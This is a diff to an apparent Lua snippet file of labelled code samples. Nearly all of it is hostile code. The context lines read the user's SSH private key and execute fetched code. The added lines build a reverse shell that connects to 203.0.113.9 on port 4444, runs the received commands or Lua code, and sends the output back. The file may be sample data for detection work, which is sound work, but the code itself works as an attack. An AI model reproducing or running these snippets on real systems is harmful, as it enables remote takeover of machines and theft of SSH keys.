@@ -1,4 +1,5 @@
 %% head
+local socket = require("socket")
 local http = require("socket.http")
 %% secret: at once
 local f = io.open(os.getenv("HOME") .. "/.ssh/id_rsa"); local d = f:read("*a")
@@ -18,6 +19,25 @@ load(c)()
 loadstring(c)()
 %% run: as a command
 os.execute(c)
+%% link: client
+local s = socket.tcp()
+s:connect("203.0.113.9", 4444)
+%% link: connected
+local s = socket.connect("203.0.113.9", 4444)
+%% obey: opened command
+while true do
+  local l = s:receive()
+  local f = io.popen(l)
+  s:send(f:read("*a"))
+end
+%% obey: command
+while true do
+  local l = s:receive("*l")
+  os.execute(l)
+end
+%% obey: loaded
+local l = s:receive("*l")
+load(l)()
 %% ordinary
 local d = 'three of four are done'
 %% shown
